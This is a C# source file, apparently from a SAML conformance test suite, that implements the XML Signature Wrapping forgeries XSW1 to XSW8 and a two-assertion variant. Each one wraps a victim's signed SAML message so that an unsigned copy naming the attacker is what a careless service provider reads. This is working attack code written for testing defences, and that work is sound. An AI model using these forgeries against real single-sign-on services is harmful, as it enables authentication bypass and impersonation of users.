using System.Xml;
using Conformance.Saml.Responses;
using Conformance.Saml.Xml;
using static Conformance.Saml.Attacks.ResponseForgery;

namespace Conformance.Saml.Attacks;

/// <summary>
/// XML Signature Wrapping as SAML Raider applies it (XSWHelpers.applyXSW1-8, after Somorovsky et al. 2012):
/// the signed original stays byte-for-byte intact, so its signature still verifies, and an unsigned
/// "evil" copy naming the attacker sits where a careless SP reads the Assertion from.
/// </summary>
internal static class Wrapping
{
    /// <summary>XSW1: the root becomes the evil Response; the signed original Response, unsigned, goes inside its Signature.</summary>
    public static Forgery Xsw1(AttackContext context) => OnResponse(context, (_, original, signature) => signature.AppendChild(original));

    /// <summary>XSW2: as XSW1, but the original Response goes right before the Signature, beside it.</summary>
    public static Forgery Xsw2(AttackContext context) =>
        OnResponse(context, (response, original, signature) => response.InsertBefore(original, signature));

    /// <summary>XSW3: an unsigned evil Assertion (new ID) before the signed one.</summary>
    public static Forgery Xsw3(AttackContext context) => OnAssertion(context, (response, signed) =>
    {
        var evil = EvilCopy(context, signed, newId: true);
        response.InsertBefore(evil, signed);
    });

    /// <summary>XSW4: an unsigned evil Assertion (new ID) around the signed one.</summary>
    public static Forgery Xsw4(AttackContext context) => OnAssertion(context, (response, signed) =>
    {
        var evil = EvilCopy(context, signed, newId: true);
        response.AppendChild(evil);
        evil.AppendChild(signed);
    });

    /// <summary>XSW5: the Assertion in place turns evil (new ID, keeps the Signature); an unsigned copy of the original goes last.</summary>
    public static Forgery Xsw5(AttackContext context) => OnAssertion(context, (response, signed) =>
    {
        var original = UnsignedCopy(signed);
        MakeEvil(context, signed, newId: true);
        response.AppendChild(original);
    });

    /// <summary>XSW6: as XSW5, but the unsigned original goes inside the evil Assertion's Signature.</summary>
    public static Forgery Xsw6(AttackContext context) => OnAssertion(context, (response, signed) =>
    {
        var original = UnsignedCopy(signed);
        var signature = Signature(signed)!;
        MakeEvil(context, signed, newId: true);
        signature.AppendChild(original);
    });

    /// <summary>
    /// XSW7: an unsigned evil Assertion (same ID) in samlp:Extensions. Put where the schema allows
    /// Extensions (SAML Raider puts it just before the Assertion), so only the wrapping is wrong.
    /// </summary>
    public static Forgery Xsw7(AttackContext context) => OnAssertion(context, (response, signed) =>
    {
        var extensions = response.OwnerDocument.CreateElement(response.Prefix, "Extensions", SamlNames.Protocol);
        extensions.AppendChild(EvilCopy(context, signed, newId: false));
        response.InsertBefore(extensions, SafeXml.Child(response, SamlNames.Protocol, "Status"));
    });

    /// <summary>XSW8: the Assertion in place turns evil (same ID, keeps the Signature); the unsigned original goes into Signature/ds:Object.</summary>
    public static Forgery Xsw8(AttackContext context) => OnAssertion(context, (response, signed) =>
    {
        var original = UnsignedCopy(signed);
        var signature = Signature(signed)!;
        MakeEvil(context, signed, newId: false);
        var wrapper = response.OwnerDocument.CreateElement("ds", "Object", SamlNames.XmlDsig);
        wrapper.AppendChild(original);
        signature.AppendChild(wrapper);
    });

    /// <summary>The victim's signed Assertion, then an independent unsigned Assertion for the attacker after it.</summary>
    public static Forgery TwoAssertionsOneSigned(AttackContext context) => OnAssertion(context, (response, _) =>
    {
        var attacker = Signed(context.Victim with { NameId = context.AttackerNameId, AssertionId = SamlIds.New(), Signing = SignedParts.None }, context.IdpCertificate);
        response.AppendChild(response.OwnerDocument.ImportNode(Assertion(attacker.DocumentElement!), deep: true));
    });

    private static Forgery OnResponse(AttackContext context, Action<XmlElement, XmlElement, XmlElement> wrap)
    {
        var document = Signed(context.Victim with { Signing = SignedParts.Response }, context.IdpCertificate);
        var response = document.DocumentElement!;
        var signature = Signature(response)!;
        var original = UnsignedCopy(response);
        response.SetAttribute("ID", SamlIds.New());
        SetNameId(Assertion(response), context.AttackerNameId);
        wrap(response, original, signature);
        return Evil(context, document);
    }

    private static Forgery OnAssertion(AttackContext context, Action<XmlElement, XmlElement> wrap)
    {
        var document = Signed(context.Victim with { Signing = SignedParts.Assertion }, context.IdpCertificate);
        var response = document.DocumentElement!;
        wrap(response, Assertion(response));
        return Evil(context, document);
    }

    private static Forgery Evil(AttackContext context, XmlDocument document) =>
        new(Bytes(document), context.AttackerNameId, Pem(context.IdpCertificate));

    /// <summary>A deep copy without its own enveloped Signature: what the signature's digest covers.</summary>
    private static XmlElement UnsignedCopy(XmlElement signed)
    {
        var copy = (XmlElement)signed.CloneNode(deep: true);
        copy.RemoveChild(Signature(copy)!);
        return copy;
    }

    private static XmlElement EvilCopy(AttackContext context, XmlElement signed, bool newId)
    {
        var evil = UnsignedCopy(signed);
        MakeEvil(context, evil, newId);
        return evil;
    }

    private static void MakeEvil(AttackContext context, XmlElement assertion, bool newId)
    {
        if (newId)
        {
            assertion.SetAttribute("ID", SamlIds.New());
        }
        SetNameId(assertion, context.AttackerNameId);
    }
}
